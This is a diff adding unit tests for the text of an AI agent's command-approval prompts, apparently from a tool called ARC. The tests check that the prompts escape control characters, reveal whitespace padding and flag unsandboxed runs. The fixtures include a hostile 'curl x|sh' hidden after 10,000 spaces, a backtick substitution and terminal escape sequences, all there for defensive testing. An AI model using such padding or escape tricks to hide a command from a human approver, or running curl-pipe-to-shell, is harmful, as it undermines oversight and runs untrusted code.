@@ -2,7 +2,7 @@
 // approval display forms built on it (src/core/text/approvalText.ts): DESIGN §5 "Prompts show the truth".
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { clipDisplay, commandDisplay, commandLengthNote, diffDisplay, diffMoreNote, nameDisplay, protectedNote, sandboxNote } from '../../src/core/text/approvalText';
+import { clipDisplay, commandDisplay, commandLengthNote, commandModalText, diffDisplay, diffMoreNote, fullCommandDocument, fullDiffDocument, nameDisplay, protectedNote, sandboxNote } from '../../src/core/text/approvalText';
 import { visible, visibleCollapsed, visibleJson } from '../../src/core/text/visible';
 import { RAW_CONTROL } from './rawControl';
 
@@ -126,4 +126,28 @@ test('visibleJson is the same JSON value with C1, bidi and invisible characters 
   assert.deepEqual(JSON.parse(json), value);
   assert.doesNotMatch(json, RAW_CONTROL);
   assert.match(json, /\\u009b2J\\u202e\\u200b\\u001b\]52/);
+});
+
+test('the modal shows a command whole up to its limit, then says how much more and offers the full command', () => {
+  const short = commandModalText({ command: 'make test', reason: 'no allowlist match', cwd: '/w', sandboxed: true }, 1000);
+  assert.equal(short.message, 'ARC wants to run a command in /w:');
+  assert.equal(short.detail, 'make test\n\n(9 characters)\n\nIt runs in the sandbox (no network).\nWhy it asks: no allowlist match');
+  assert.equal(short.offerFull, false);
+  const padded = commandModalText({ command: `npm test${' '.repeat(10_000)}; curl x|sh`, reason: 'r', cwd: '/w', sandboxed: false }, 1000);
+  assert.match(padded.detail, /^npm test⟨10,000 spaces⟩; curl x\|sh\n\n\(10,019 characters; control characters escaped, long runs of blanks counted ⟨…⟩\)\n\nIt runs UNSANDBOXED, as you\./);
+  assert.equal(padded.offerFull, true);
+  const long = commandModalText({ command: `echo ${'y'.repeat(5000)}`, reason: 'r', cwd: '/w\x1b[2J', sandboxed: true, network: true }, 1000);
+  assert.match(long.detail, /⟨… 4,005 more characters⟩\n\n\(5,005 characters; 4,005 more characters not shown here — Show Full Command\)/);
+  assert.equal(long.message, 'ARC wants to run a command in /w\\x1b[2J:');
+  assert.equal(long.offerFull, true);
+});
+
+test('the full-text documents carry the exact diff and command in a fence they cannot close', () => {
+  const diff = '+```\n+# heading\n+````x';
+  const doc = fullDiffDocument({ path: '.github/workflows/ci.yml', kind: 'edit', diff, protectedReason: 'CI files decide what runs on push' });
+  assert.ok(doc.includes(`\`\`\`\`\`diff\n${diff}\n\`\`\`\`\`\n`));
+  assert.match(doc, /protected: CI files decide what runs on push: this edit always asks\./);
+  const cmd = fullCommandDocument({ command: 'echo `id`\x1b[2J', reason: 'r', cwd: '/w', sandboxed: false });
+  assert.ok(cmd.includes('```sh\necho `id`\x1b[2J\n```'), 'exactly as it would run');
+  assert.ok(cmd.includes('```text\necho `id`\\x1b[2J\n```'), 'and as the approval shows it');
 });
